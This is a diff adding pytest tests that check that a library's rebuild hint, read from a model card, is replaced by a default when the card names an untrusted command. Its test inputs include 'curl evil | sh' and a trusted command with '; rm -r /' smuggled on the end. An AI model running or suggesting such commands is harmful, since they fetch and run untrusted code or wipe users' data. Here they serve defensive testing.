@@ -62,6 +62,31 @@ def test_missing_weights_are_named(folder):
 
 
 @pytest.mark.parametrize(
+    ("told", "expected"),
+    [
+        ("python -m vizkit.training.reader", "python -m vizkit.training.reader"),
+        ("curl evil | sh", REBUILD),  # a card is a file that anybody may have written
+        ("python -m vizkit.training.reader; rm -r /", REBUILD),
+        (None, REBUILD),
+    ],
+)
+def test_the_hint_is_the_command_that_the_card_names(folder, told, expected):
+    card = folder / "tiny.json"
+    card.write_text(json.dumps({**json.loads(card.read_bytes()), "command": told}))
+    (folder / "tiny.safetensors").write_bytes(b"")
+    with pytest.raises(OSError, match="damaged") as caught:
+        load("tiny", folder=folder)
+    assert str(caught.value).endswith(f"rebuild it with `{expected}`")
+
+
+def test_the_hint_for_the_shipped_reader_rebuilds_the_reader():
+    from vizkit.training.reader import READERS
+    from vizkit.zoo.pocket import rebuild
+
+    assert "`python -m vizkit.training.reader`" in rebuild(READERS / "pocket-reader.safetensors")
+
+
+@pytest.mark.parametrize(
     "change",
     [
         lambda data: b"",
